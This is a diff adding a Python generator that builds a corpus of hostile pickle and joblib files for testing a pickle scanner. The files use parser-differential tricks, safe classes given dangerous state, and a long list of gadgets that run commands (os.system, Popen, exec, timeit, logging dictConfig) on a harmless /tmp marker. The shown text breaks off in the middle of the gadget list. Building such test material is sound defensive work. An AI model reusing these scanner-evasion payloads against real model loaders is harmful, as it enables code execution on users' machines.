@@ -1,0 +1,924 @@
+#!/usr/bin/python3
+"""Write the attack corpus tests/safety/attacks/ and its MANIFEST.
+
+    /usr/bin/python3 tests/safety/gen_attacks.py [OUTDIR]
+
+Every file is one attack on a pickle scanner, written the way scanners were beaten
+(picklescan, fickling, modelscan advisories; libjlpickle's HOSTILE-INPUTS.md classes 19
+and 26-29: readings that differ, safe names with dangerous arguments, gadgets outside
+the usual names, a failed load hiding what came before, budgets). Nothing here is ever run for
+real: the payloads are harmless commands on marker paths under /tmp, and whether Python
+would run them is checked with tests/safety/pyreadings.py, whose find_class returns
+inert stand-ins and whose audit hook blocks every effect.
+
+MANIFEST, one line per attack (tab-separated):
+    NAME  MIN_VERDICT  CLASS  EXECUTES  # what it does
+  MIN_VERDICT  the scan must say at least this (suspicious < dangerous); none is safe
+  CLASS        readings | state | gadget | invalid-tail | budget | differential
+  EXECUTES     the readings in which Python calls a name outside the safe list, sets a
+               dunder attribute, or (for numpy memory attacks) accepts the bad state:
+               "yes:joblib,pickle" / "no" (recorded, not assumed)
+The generator fails when an attack marked to execute does not execute in the readings
+named with it (the attack would then test nothing).
+"""
+import bz2
+import gzip
+import lzma
+import os
+import struct
+import sys
+import zlib
+
+import numpy as np
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE)
+
+import pk  # noqa: E402
+import rules  # noqa: E402
+
+MARKER = "/tmp/jlp-attack-marker"
+CMD = "touch " + MARKER
+PY = "__import__('os').system('touch %s')" % MARKER
+
+ATTACKS = []
+
+
+def attack(name, verdict, klass, note, expect=None, check=None):
+    """Register an attack. expect: readings that must execute it (verified); check:
+    'loads' when executing means Python accepted the state (numpy memory attacks)."""
+    def deco(fn):
+        ATTACKS.append(dict(name=name, verdict=verdict, klass=klass, note=note, fn=fn,
+                            expect=expect or [], check=check))
+        return fn
+    return deco
+
+
+# ---- building blocks -----------------------------------------------------------------------
+
+def np_dtype(code):
+    """numpy.dtype(code) as numpy pickles it: REDUCE + BUILD of its own state tuple."""
+    _, args, state = np.dtype(code).__reduce__()
+    return (pk.call(pk.glob("numpy", "dtype"), pk.uni(args[0]), pk.py_value(args[1]),
+                    pk.py_value(args[2])) + pk.py_value(state) + pk.BUILD)
+
+
+def wrapper_state(shape, code="u1", align=16, extra=()):
+    pairs = [(pk.uni("subclass"), pk.glob("numpy", "ndarray")),
+             (pk.uni("shape"), pk.py_value(tuple(shape))),
+             (pk.uni("order"), pk.uni("C")),
+             (pk.uni("dtype"), np_dtype(code)),
+             (pk.uni("allow_mmap"), pk.NEWFALSE)]
+    if align is not None:
+        pairs.append((pk.uni("numpy_array_alignment_bytes"), pk.integer(align)))
+    pairs += list(extra)
+    return pk.dct(*pairs)
+
+
+WRAPPER = ("joblib.numpy_pickle", "NumpyArrayWrapper")
+
+
+def pad_for(offset):
+    """joblib's padding: one length byte, then that many 0xff, so the data that follows
+    starts on a 16-byte boundary of the decoded stream."""
+    n = 16 - ((offset + 1) % 16)
+    return bytes([n]) + b"\xff" * n
+
+
+def joblib_stream(before, wrapper_and_build, data, after, align=True):
+    """PROTO 4 + before + wrapper + BUILD + payload + after + STOP, payload aligned as
+    joblib writes it."""
+    head = pk.proto(4) + before + wrapper_and_build
+    pad = pad_for(len(head)) if align else b""
+    return head + pad + data + after + pk.STOP
+
+
+def newobj_wrapper(state):
+    return pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD
+
+
+JUNK8 = b"\x00\x01\xfe\xff\x00\x01\xfe\xff"   # payload bytes that are no opcodes
+
+
+def neutral(n):
+    """n bytes of stack-neutral opcodes (a bytes literal, popped)."""
+    assert n >= 3
+    return pk.binbytes(b"\x00" * (n - 3)) + pk.POP
+
+
+def inner_pickle_system(proto=2):
+    return pk.proto(proto) + pk.system(CMD) + pk.STOP
+
+
+def npy_object_with_system():
+    """A .npy file holding an object array whose pickle calls os.system."""
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
+    body = (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"),
+                                  pk.glob("numpy", "ndarray"), pk.tup(pk.integer(0)),
+                                  pk.binstring(b"b"))
+            + pk.tup(pk.integer(1), pk.tup(pk.integer(1)), np_dtype("O"), pk.NEWFALSE,
+                     pk.lst(pk.system(CMD))) + pk.BUILD + pk.STOP)
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body
+
+
+def zf(data):
+    """joblib <= 0.9's ZF container: 'ZF', the length in hex padded to 19, zlib."""
+    return b"ZF" + ("0x%X" % len(data)).encode().ljust(19) + zlib.compress(data, 1)
+
+
+def dotted(module, qualname):
+    """A dotted qualname needs protocol 4's STACK_GLOBAL to be walked."""
+    return pk.sglob(module, qualname)
+
+
+def instance(module, cls, *args):
+    return pk.call(pk.glob(module, cls), *args)
+
+
+def real_array_u1(data=b"A"):
+    return (pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"), pk.glob("numpy", "ndarray"),
+                    pk.tup(pk.integer(0)), pk.binbytes(b"b"))
+            + pk.tup(pk.integer(1), pk.tup(pk.integer(len(data))), np_dtype("u1"), pk.NEWFALSE,
+                     pk.binbytes(data)) + pk.BUILD)
+
+
+# ==== 1. readings: joblib, its compat path, the C and Python unpicklers, numpy ===================
+
+@attack("wrapper_padding_is_opcodes.joblib", "dangerous", "readings",
+        "the joblib padding length byte is 'N' (78, NONE to an unpickler) and the 78 padding "
+        "bytes call os.system: joblib skips them, pickle.load runs them",
+        expect=["pickle", "pickle-py"])
+def _():
+    head = pk.proto(4) + newobj_wrapper(wrapper_state((0,)))
+    body = pk.POP + pk.system(CMD) + pk.POP
+    pad = b"N" + body + neutral(78 - len(body))
+    assert len(pad) == 79
+    return head + pad + pk.STOP
+
+
+@attack("wrapper_payload_is_opcodes.joblib", "dangerous", "readings",
+        "an old-format wrapper (no padding byte) whose array bytes are os.system opcodes",
+        expect=["pickle", "pickle-py"])
+def _():
+    hidden = pk.system(CMD) + pk.POP
+    return (pk.proto(4) + newobj_wrapper(wrapper_state((len(hidden),), align=None))
+            + hidden + pk.STOP)
+
+
+def _wrapper_variant(build_wrapper):
+    """A wrapper made some unusual way, 8 bytes of array data that are no opcodes, then
+    os.system: joblib reads the payload and runs the call, the unpicklers stop."""
+    def fn():
+        return joblib_stream(b"", build_wrapper(), b"\x00" * 8,
+                             pk.system(CMD) + pk.POP + pk.NONE)
+    return fn
+
+
+for _name, _note, _builder in [
+    ("wrapper_newobj_ex", "wrapper built by NEWOBJ_EX",
+     lambda: pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.EMPTY_DICT + pk.NEWOBJ_EX
+     + wrapper_state((8,)) + pk.BUILD),
+    ("wrapper_reduce_class", "wrapper built by calling the class (REDUCE), state merged by BUILD",
+     lambda: pk.call(pk.glob(*WRAPPER), pk.glob("numpy", "ndarray"), pk.tup(pk.integer(8)),
+                     pk.uni("C"), np_dtype("u1"))
+     + pk.dct((pk.uni("numpy_array_alignment_bytes"), pk.integer(16))) + pk.BUILD),
+    ("wrapper_copyreg_newobj", "wrapper built by copyreg.__newobj__",
+     lambda: pk.call(pk.glob("copyreg", "__newobj__"), pk.glob(*WRAPPER))
+     + wrapper_state((8,)) + pk.BUILD),
+    ("wrapper_copyreg_newobj_ex", "wrapper built by copyreg.__newobj_ex__",
+     lambda: pk.call(pk.glob("copyreg", "__newobj_ex__"), pk.glob(*WRAPPER), pk.EMPTY_TUPLE,
+                     pk.EMPTY_DICT) + wrapper_state((8,)) + pk.BUILD),
+    ("wrapper_reconstructor", "wrapper built by copyreg._reconstructor",
+     lambda: pk.call(pk.glob("copyreg", "_reconstructor"), pk.glob(*WRAPPER),
+                     pk.glob("builtins", "object"), pk.NONE) + wrapper_state((8,)) + pk.BUILD),
+    ("wrapper_inst_opcode", "wrapper built by the INST opcode",
+     lambda: pk.MARK + pk.glob("numpy", "ndarray") + pk.tup(pk.integer(8)) + pk.uni("C")
+     + np_dtype("u1") + pk.inst(*WRAPPER) + pk.dct((pk.uni("numpy_array_alignment_bytes"),
+                                                   pk.integer(16))) + pk.BUILD),
+    ("wrapper_obj_opcode", "wrapper built by the OBJ opcode",
+     lambda: pk.MARK + pk.glob(*WRAPPER) + pk.glob("numpy", "ndarray") + pk.tup(pk.integer(8))
+     + pk.uni("C") + np_dtype("u1") + pk.OBJ
+     + pk.dct((pk.uni("numpy_array_alignment_bytes"), pk.integer(16))) + pk.BUILD),
+    ("wrapper_dotted_name", "wrapper class named as joblib:numpy_pickle.NumpyArrayWrapper",
+     lambda: dotted("joblib", "numpy_pickle.NumpyArrayWrapper") + pk.EMPTY_TUPLE + pk.NEWOBJ
+     + wrapper_state((8,)) + pk.BUILD),
+    ("wrapper_class_from_memo", "wrapper class stored in the memo early, fetched later",
+     lambda: pk.glob(*WRAPPER) + pk.put(200) + pk.POP + pk.get(200) + pk.EMPTY_TUPLE
+     + pk.NEWOBJ + wrapper_state((8,)) + pk.BUILD),
+]:
+    attack(_name + ".joblib", "dangerous", "readings",
+           _note + ": joblib reads its 8 payload bytes and then runs os.system",
+           expect=["joblib"])(_wrapper_variant(_builder))
+
+
+@attack("wrapper_slotstate_shape.joblib", "dangerous", "readings",
+        "BUILD (state, slotstate): the dict says 64 payload bytes, the slot state (set last) "
+        "says 0; joblib runs the os.system that a dict-only reader takes for payload",
+        expect=["joblib"])
+def _():
+    state = pk.tup(wrapper_state((64,)), pk.dct((pk.uni("shape"), pk.py_value((0,)))))
+    w = pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD
+    return joblib_stream(b"", w, b"", pk.system(CMD) + pk.POP + neutral(120) + pk.NONE)
+
+
+@attack("wrapper_repeated_key.joblib", "dangerous", "readings",
+        "the wrapper state repeats 'shape' (64 then 0): Python keeps the last, so joblib "
+        "runs the os.system that a first-key reader takes for payload", expect=["joblib"])
+def _():
+    state = wrapper_state((64,), extra=[(pk.uni("shape"), pk.py_value((0,)))])
+    return joblib_stream(b"", newobj_wrapper(state)[:-0] if False else
+                         pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD,
+                         b"", pk.system(CMD) + pk.POP + neutral(120) + pk.NONE)
+
+
+@attack("wrapper_repeated_setitem.joblib", "dangerous", "readings",
+        "the wrapper state sets 'shape' twice with SETITEM; Python keeps the second",
+        expect=["joblib"])
+def _():
+    state = (wrapper_state((64,)) + pk.uni("shape") + pk.py_value((0,)) + b"s")
+    w = pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD
+    return joblib_stream(b"", w, b"", pk.system(CMD) + pk.POP + neutral(120) + pk.NONE)
+
+
+@attack("zf_compat_wrapper_opcodes.pkl", "dangerous", "readings",
+        "a ZF (joblib <= 0.9) file: its loader does not know NumpyArrayWrapper, so the "
+        "'payload' after the wrapper is opcodes that call os.system", expect=["joblib-compat"])
+def _():
+    inner = (pk.proto(2) + newobj_wrapper(wrapper_state((16,), align=None))
+             + pk.system(CMD) + pk.POP + pk.STOP)
+    return zf(inner)
+
+
+@attack("g0_companion_object/model.pkl", "dangerous", "readings",
+        "an NDArrayWrapper names a companion .npy; joblib loads it with allow_pickle=True and "
+        "its object array calls os.system", expect=["joblib"])
+def _():
+    main = (pk.proto(2) + pk.call(pk.glob("joblib.numpy_pickle_compat", "NDArrayWrapper"),
+                                  pk.uni("model.pkl_01.npy"), pk.glob("numpy", "ndarray"))
+            + pk.EMPTY_DICT + pk.BUILD + pk.STOP)
+    return {"model.pkl": main, "model.pkl_01.npy": npy_object_with_system()}
+
+
+@attack("g0_companion_outside_dir.pkl", "suspicious", "readings",
+        "an NDArrayWrapper whose companion is outside the file's directory: joblib would "
+        "np.load(allow_pickle=True) whatever file sits there")
+def _():
+    return (pk.proto(2) + pk.call(pk.glob("joblib.numpy_pickle_compat", "NDArrayWrapper"),
+                                  pk.uni("../../../../tmp/jlp-planted.npy"),
+                                  pk.glob("numpy", "ndarray"))
+            + pk.EMPTY_DICT + pk.BUILD + pk.STOP)
+
+
+@attack("int_octal_then_system.pkl", "dangerous", "readings",
+        "INT '010': the C unpickler reads 8 and runs on into os.system, pickle.py (and "
+        "joblib) reject it", expect=["pickle"])
+def _():
+    return pk.proto(2) + pk.int_text("010") + pk.POP + pk.system(CMD) + pk.STOP
+
+
+@attack("int_octal_wrapper_shape.joblib", "dangerous", "readings",
+        "the wrapper's shape is INT '010' (C: 8, ours: 10, joblib: error); for the C "
+        "unpickler the bytes after BUILD are an os.system call", expect=["pickle"])
+def _():
+    state = wrapper_state((0,), align=None)
+    state = state.replace(pk.py_value((0,)), pk.int_text("010") + pk.TUPLE1, 1)
+    return (pk.proto(2) + pk.glob(*WRAPPER) + pk.EMPTY_TUPLE + pk.NEWOBJ + state + pk.BUILD
+            + pk.system(CMD) + pk.POP + neutral(20) + pk.STOP)
+
+
+@attack("frame_longer_than_rest.pkl", "dangerous", "readings",
+        "a FRAME longer than the file: pickle.py (and joblib) run the os.system inside, "
+        "the C unpickler refuses", expect=["pickle-py", "joblib"])
+def _():
+    return pk.proto(4) + pk.frame(4096) + pk.system(CMD) + pk.STOP
+
+
+@attack("frame_straddle.pkl", "dangerous", "readings",
+        "a string straddles the end of its FRAME: the C unpickler reading a file accepts "
+        "it and runs os.system, pickle.py refuses", expect=["pickle"])
+def _():
+    s = pk.uni("abcdefgh")
+    return pk.proto(4) + pk.frame(4) + s + pk.POP + pk.system(CMD) + pk.STOP
+
+
+@attack("object_array_payload.joblib", "dangerous", "readings",
+        "an object-dtype wrapper: its payload is a nested pickle (read by the C unpickler "
+        "inside joblib) that calls os.system", expect=["joblib", "pickle", "pickle-py"])
+def _():
+    w = newobj_wrapper(wrapper_state((1,), code="O", align=None))
+    return pk.proto(4) + w + inner_pickle_system() + pk.STOP
+
+
+@attack("object_dtype_flags_zero.joblib", "dangerous", "state",
+        "a wrapper whose object dtype's state clears the has-object flags: joblib reads the "
+        "payload bytes as object pointers (Python crashes on it)", check="crash")
+def _():
+    _, args, state = np.dtype("O").__reduce__()
+    state = state[:-1] + (0,)
+    dt = (pk.call(pk.glob("numpy", "dtype"), pk.uni(args[0]), pk.py_value(args[1]),
+                  pk.py_value(args[2])) + pk.py_value(state) + pk.BUILD)
+    st = pk.dct((pk.uni("subclass"), pk.glob("numpy", "ndarray")), (pk.uni("shape"), pk.py_value((1,))),
+                (pk.uni("order"), pk.uni("C")), (pk.uni("dtype"), dt), (pk.uni("allow_mmap"), pk.NEWFALSE))
+    return pk.proto(4) + newobj_wrapper(st) + struct.pack("<Q", 16) + pk.STOP
+
+
+@attack("payload_then_system.joblib", "dangerous", "readings",
+        "a normal joblib array, then os.system in the rest of the stream (aisbom#91)",
+        expect=["joblib"])
+def _():
+    return joblib_stream(b"", newobj_wrapper(wrapper_state((8,))), JUNK8,
+                         pk.system(CMD) + pk.POP + pk.NONE)
+
+
+# ==== 2. safe names with dangerous arguments ========================================================
+
+MEMMAP_ARGS = (pk.uni(MARKER), pk.uni("uint8"), pk.uni("w+"), pk.integer(0), pk.tup(pk.integer(16)))
+
+for _name, _mod, _build in [
+    ("memmap_newobj", "numpy", lambda m: pk.glob(m, "memmap") + pk.tup(*MEMMAP_ARGS) + pk.NEWOBJ),
+    ("memmap_core_newobj", "numpy.core.memmap",
+     lambda m: pk.glob(m, "memmap") + pk.tup(*MEMMAP_ARGS) + pk.NEWOBJ),
+    ("memmap_copyreg_newobj", "numpy",
+     lambda m: pk.call(pk.glob("copyreg", "__newobj__"), pk.glob(m, "memmap"), *MEMMAP_ARGS)),
+    ("memmap_newobj_ex", "numpy",
+     lambda m: pk.glob(m, "memmap") + pk.tup(pk.uni(MARKER))
+     + pk.dct((pk.uni("mode"), pk.uni("w+")), (pk.uni("shape"), pk.tup(pk.integer(16))))
+     + pk.NEWOBJ_EX),
+    ("memmap_copyreg_newobj_ex", "numpy",
+     lambda m: pk.call(pk.glob("copyreg", "__newobj_ex__"), pk.glob(m, "memmap"),
+                       pk.tup(pk.uni(MARKER)),
+                       pk.dct((pk.uni("mode"), pk.uni("w+")), (pk.uni("shape"), pk.tup(pk.integer(16)))))),
+    ("memmap_reconstructor", "numpy",
+     lambda m: pk.call(pk.glob("copyreg", "_reconstructor"), pk.glob(m, "memmap"),
+                       pk.glob(m, "memmap"), pk.uni(MARKER))),
+]:
+    attack(_name + ".pkl", "dangerous", "state",
+           "numpy.memmap built outside a joblib wrapper: creates or overwrites a file",
+           expect=["pickle", "pickle-py", "joblib"])(
+        (lambda b, m: lambda: pk.proto(4) + b(m) + pk.STOP)(_build, _mod))
+
+
+@attack("memmap_reconstruct_subtype.pkl", "suspicious", "state",
+        "numpy.memmap handed to numpy's _reconstruct as the array class")
+def _():
+    return (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"),
+                                  pk.glob("numpy", "memmap"), pk.tup(pk.integer(0)),
+                                  pk.binbytes(b"b")) + pk.STOP)
+
+
+ARRAY_INTERFACE = pk.dct((pk.uni("shape"), pk.tup(pk.integer(8))), (pk.uni("typestr"), pk.uni("|u1")),
+                         (pk.uni("data"), pk.tup(pk.integer(16), pk.NEWFALSE)),
+                         (pk.uni("version"), pk.integer(3)))
+ESTIMATOR = ("sklearn.linear_model._logistic", "LogisticRegression")
+CSR = ("scipy.sparse._csr", "csr_matrix")
+
+
+@attack("estimator_array_interface.pkl", "dangerous", "state",
+        "a 'safe' estimator given an __array_interface__ pointing at address 16, then "
+        "handed to csr_matrix: numpy reads (or writes) any address", expect=["pickle"])
+def _():
+    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ + pk.dct(
+        (pk.uni("__array_interface__"), ARRAY_INTERFACE), (pk.uni("C"), pk.integer(1))) + pk.BUILD
+    return pk.proto(4) + pk.call(pk.glob(*CSR), est) + pk.STOP
+
+
+@attack("estimator_array_struct.pkl", "dangerous", "state",
+        "a 'safe' estimator whose state sets __array_struct__", expect=["pickle"])
+def _():
+    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ + pk.dct(
+        (pk.uni("__array_struct__"), pk.integer(16))) + pk.BUILD
+    return pk.proto(4) + pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"),
+                                 pk.glob("numpy", "ndarray"), pk.tup(pk.integer(0)),
+                                 pk.binbytes(b"b")) + pk.POP + est + pk.STOP
+
+
+@attack("estimator_slotstate_class.pkl", "dangerous", "state",
+        "slot state sets __class__ of a 'safe' estimator (setattr through BUILD's pair form)",
+        expect=["pickle"])
+def _():
+    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ + pk.tup(
+        pk.EMPTY_DICT, pk.dct((pk.uni("__class__"), pk.glob("sklearn.pipeline", "Pipeline")))) + pk.BUILD
+    return pk.proto(4) + est + pk.STOP
+
+
+@attack("estimator_state_dict_key.pkl", "dangerous", "state",
+        "a 'safe' estimator's state carries a __dict__ and a __reduce_ex__ key", expect=["pickle"])
+def _():
+    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ + pk.dct(
+        (pk.uni("__dict__"), pk.EMPTY_DICT), (pk.uni("__reduce_ex__"), pk.NONE)) + pk.BUILD
+    return pk.proto(4) + est + pk.STOP
+
+
+@attack("bunch_setitem_array_interface.pkl", "dangerous", "state",
+        "SETITEMS puts '__array_interface__' into a Bunch (whose attributes are its keys), "
+        "then csr_matrix(bunch) makes numpy follow the pointer", expect=["pickle"])
+def _():
+    bunch = (pk.call(pk.glob("sklearn.utils._bunch", "Bunch")) + pk.MARK + pk.uni("__array_interface__")
+             + ARRAY_INTERFACE + pk.SETITEMS)
+    return pk.proto(4) + pk.call(pk.glob(*CSR), bunch) + pk.STOP
+
+
+@attack("dtype_object_field_raw.pkl", "dangerous", "state",
+        "a dtype state with an object field at offset 0 of a V8 and flags 0 (no "
+        "has-object flag), then an array of it from raw bytes: reading the field "
+        "dereferences the address 16", check="loads", expect=["pickle", "pickle-py"])
+def _():
+    dt = (pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE)
+          + pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("f")),
+                   pk.dct((pk.uni("f"), pk.tup(np_dtype("O"), pk.integer(0)))),
+                   pk.integer(8), pk.integer(1), pk.integer(0)) + pk.BUILD)
+    arr = (pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"), pk.glob("numpy", "ndarray"),
+                   pk.tup(pk.integer(0)), pk.binbytes(b"b"))
+           + pk.tup(pk.integer(1), pk.tup(pk.integer(1)), dt, pk.NEWFALSE,
+                    pk.binbytes(struct.pack("<Q", 16))) + pk.BUILD)
+    return pk.proto(2) + arr + pk.STOP
+
+
+@attack("dtype_field_past_itemsize.pkl", "dangerous", "state",
+        "a dtype state whose field lies past the itemsize (offset 4096 in a V8)",
+        check="loads", expect=["pickle"])
+def _():
+    dt = (pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE)
+          + pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("f")),
+                   pk.dct((pk.uni("f"), pk.tup(np_dtype("<f8"), pk.integer(4096)))),
+                   pk.integer(8), pk.integer(1), pk.integer(0)) + pk.BUILD)
+    return pk.proto(2) + dt + pk.STOP
+
+
+def _template_state(result):
+    """Readings that gave a scipy distribution its _parse_arg_template."""
+    return [r for r, v in sorted(result["readings"].items())
+            if any(k[2] == "_parse_arg_template" for k in v["state"])]
+
+
+@attack("scipy_distribution_template.pkl", "dangerous", "state",
+        "a frozen scipy distribution (as RandomizedSearchCV keeps them) whose pickled "
+        "_parse_arg_template is code: restoring it execs the code, and every global it "
+        "names looks safe", check=_template_state, expect=["pickle", "pickle-py", "joblib"])
+def _():
+    import pickle
+    import scipy.stats
+    d = scipy.stats.loguniform(1e-2, 1e2)
+    d.dist._random_state = np.random.RandomState(0)
+    d.dist.__dict__["_parse_arg_template"] = PY.replace("'", '"') + "\n" + \
+        d.dist.__dict__["_parse_arg_template"]
+    return pickle.dumps(d, protocol=2)
+
+
+@attack("reconstructor_popen.pkl", "dangerous", "state",
+        "copyreg._reconstructor(Popen, Popen, cmd): the class it builds runs the command",
+        expect=["pickle"])
+def _():
+    return pk.proto(2) + pk.call(pk.glob("copyreg", "_reconstructor"),
+                                 pk.glob("subprocess", "Popen"), pk.glob("subprocess", "Popen"),
+                                 pk.uni(CMD)) + pk.STOP
+
+
+@attack("cython_unpickle_foreign_class.pkl", "suspicious", "state",
+        "a Cython __pyx_unpickle_ helper asked to build a class of another module")
+def _():
+    return pk.proto(2) + pk.call(pk.glob("sklearn._loss._loss", "__pyx_unpickle_CyHalfSquaredError"),
+                                 pk.glob("collections", "OrderedDict"), pk.integer(0),
+                                 pk.NONE) + pk.STOP
+
+
+@attack("cython_newobj_foreign_class.pkl", "suspicious", "state",
+        "sklearn's Cython newObj helper asked to build a class of another module")
+def _():
+    return pk.proto(2) + pk.call(pk.glob("sklearn.neighbors._kd_tree", "newObj"),
+                                 pk.glob("collections", "OrderedDict")) + pk.STOP
+
+
+@attack("getattr_safe_object_method.pkl", "suspicious", "state",
+        "getattr(a Pipeline with a memory cache, 'fit') then a call: a safe object's method "
+        "that writes files")
+def _():
+    pipe = (pk.glob("sklearn.pipeline", "Pipeline") + pk.EMPTY_TUPLE + pk.NEWOBJ
+            + pk.dct((pk.uni("steps"), pk.lst()), (pk.uni("memory"), pk.uni("/tmp/jlp-cache")))
+            + pk.BUILD)
+    return pk.proto(4) + pk.call(pk.call(pk.glob("builtins", "getattr"), pipe, pk.uni("fit")),
+                                 pk.NONE) + pk.STOP
+
+
+@attack("getattr_dunder_chain.pkl", "dangerous", "state",
+        "getattr walks from a safe estimator to __init__.__globals__",
+        expect=["pickle"])
+def _():
+    g = pk.glob("builtins", "getattr")
+    est = pk.glob(*ESTIMATOR) + pk.EMPTY_TUPLE + pk.NEWOBJ
+    cls = pk.call(g, est, pk.uni("__class__"))
+    init = pk.call(g, cls, pk.uni("__init__"))
+    return pk.proto(4) + pk.call(g, init, pk.uni("__globals__")) + pk.STOP
+
+
+# ==== 3. gadgets outside the usual names ========================================================
+
+GADGETS = [
+    # (file stem, module, qualname, args, what)
+    ("uuid_get_command_stdout", "uuid", "_get_command_stdout", (pk.uni("touch"), pk.uni(MARKER)),
+     "uuid's helper runs a command"),
+    ("osx_support_read_output", "_osx_support", "_read_output", (pk.uni(CMD),),
+     "_osx_support runs a shell command"),
+    ("osx_support_find_build_tool", "_osx_support", "_find_build_tool", (pk.uni("touch"),),
+     "_osx_support runs xcrun"),
+    ("logging_dictconfig_factory", "logging.config", "dictConfig",
+     (pk.py_value({"version": 1, "handlers": {"h": {"()": "os.system", "command": CMD}},
+                   "root": {"handlers": ["h"]}}),),
+     "logging.config.dictConfig resolves '()': 'os.system' and calls it"),
+    ("logging_fileconfig", "logging.config", "fileConfig", (pk.uni("/tmp/jlp-planted.ini"),),
+     "logging.config.fileConfig evaluates handler arguments from a file"),
+    ("logging_filehandler", "logging", "FileHandler", (pk.uni(MARKER),),
+     "logging.FileHandler creates a file"),
+    ("cloudpickle_loads", "joblib.externals.cloudpickle", "loads", (pk.binbytes(inner_pickle_system()),),
+     "joblib's vendored cloudpickle loads a nested pickle"),
+    ("loky_fork_exec", "joblib.externals.loky.backend.fork_exec", "fork_exec",
+     (pk.py_value(["/bin/touch", MARKER]), pk.EMPTY_TUPLE), "loky's fork_exec runs a program"),
+    ("joblib_load_compatibility", "joblib.numpy_pickle_compat", "load_compatibility",
+     (pk.uni("/tmp/jlp-planted.pkl"),), "joblib's compat loader unpickles another file"),
+    ("joblib_load", "joblib", "load", (pk.uni("/tmp/jlp-planted.joblib"),), "joblib.load of another file"),
+    ("sklearn_run_python_script", "sklearn.utils._testing", "assert_run_python_script", (pk.uni(PY),),
+     "scikit-learn's test helper runs a python script"),
+    ("numpy_save", "numpy", "save", (pk.uni(MARKER + ".npy"), pk.py_value([1, 2])), "numpy.save writes a file"),
+    ("numpy_savetxt", "numpy", "savetxt", (pk.uni(MARKER + ".txt"), pk.py_value([1, 2])),
+     "numpy.savetxt writes a file"),
+    ("numpy_load_allow_pickle", "numpy", "load", (pk.uni("/tmp/jlp-planted.npy"), pk.NONE, pk.NEWTRUE),
+     "numpy.load(allow_pickle=True) of another file"),
+    ("numpy_open_memmap", "numpy.lib.format", "open_memmap",
+     (pk.uni(MARKER + ".npy"), pk.uni("w+"), pk.uni("u1"), pk.tup(pk.integer(16))),
+     "numpy's open_memmap creates a file"),
+    ("numpy_runstring", "numpy.testing._private.utils", "runstring", (pk.uni(PY), pk.EMPTY_DICT),
+     "numpy's test helper execs a string"),
+    ("frozen_importlib_gcd_import", "_frozen_importlib", "_gcd_import", (pk.uni("antigravity"),),
+     "the import machinery imports a module that opens a browser"),
+    ("importlib_import_module", "importlib", "import_module", (pk.uni("antigravity"),),
+     "importlib imports any module"),
+    ("imp_init_frozen", "_imp", "init_frozen", (pk.uni("__hello__"),), "_imp runs a frozen module"),
+    ("timeit_timeit", "timeit", "timeit", (pk.uni(PY), pk.uni("pass")), "timeit execs its statement"),
+    ("cprofile_run", "cProfile", "run", (pk.uni(PY),), "cProfile.run execs its statement"),
+    ("profile_run", "profile", "run", (pk.uni(PY),), "profile.run execs its statement"),
+    ("pdb_run", "pdb", "run", (pk.uni(PY),), "pdb.run execs its statement"),
+    ("runpy_run_path", "runpy", "run_path", (pk.uni("/tmp/jlp-planted.py"),), "runpy runs a script"),
+    ("distutils_spawn", "distutils.spawn", "spawn", (pk.py_value(["touch", MARKER]),),
+     "distutils.spawn runs a program"),
+    ("test_support_assert_python_ok", "test.support.script_helper", "assert_python_ok",
+     (pk.uni("-c"), pk.uni(PY)), "CPython's test helper runs python"),
+    ("sympy_via_scipy", "scipy.special._precompute.wright_bessel", "S", (pk.uni(PY),),
+     "sympy's S (sympify, eval) reached through a scipy module that imports it"),
+    ("pydoc_pipepager", "pydoc", "pipepager", (pk.uni("text"), pk.uni(CMD)), "pydoc's pager runs a command"),
+    ("webbrowser_open", "webbrowser", "open", (pk.uni("http://127.0.0.1/"),), "opens a browser"),
+    ("shutil_rmtree", "shutil", "rmtree", (pk.uni(MARKER),), "removes a tree"),
+    ("socket_create_connection", "socket", "create_connection", (pk.tup(pk.uni("127.0.0.1"), pk.integer(9)),),
+     "opens a network connection"),
+    ("urllib_urlopen", "urllib.request", "urlopen", (pk.uni("http://127.0.0.1:9/"),), "fetches a URL"),
+    ("subprocess_check_output", "subprocess", "check_output", (pk.py_value(["touch", MARKER]),), "runs a program"),
+    ("subprocess_popen", "subprocess", "Popen", (pk.uni(CMD),), "runs a program"),
+    ("posix_system", "posix", "system", (pk.uni(CMD),), "os.system under its C module name"),
+    ("nt_system", "nt", "system", (pk.uni(CMD),), "os.system under its Windows module name"),
+    ("os_popen", "os", "popen", (pk.uni(CMD),), "runs a shell command"),
+    ("pty_spawn", "pty", "spawn", (pk.uni("/bin/true"),), "runs a program on a pseudo-terminal"),
+    ("builtins_exec", "builtins", "exec", (pk.uni(PY),), "execs python"),
+    ("builtins_eval", "builtins", "eval", (pk.uni(PY),), "evaluates python"),
+    ("pickle_loads_nested", "pickle", "loads", (pk.binbytes(inner_pickle_system()),),
+     "loads a nested pickle"),
+    ("pickle_py_loads_nested", "pickle", "_loads", (pk.binbytes(inner_pickle_system()),),
+     "loads a nested pickle with the Python unpickler"),
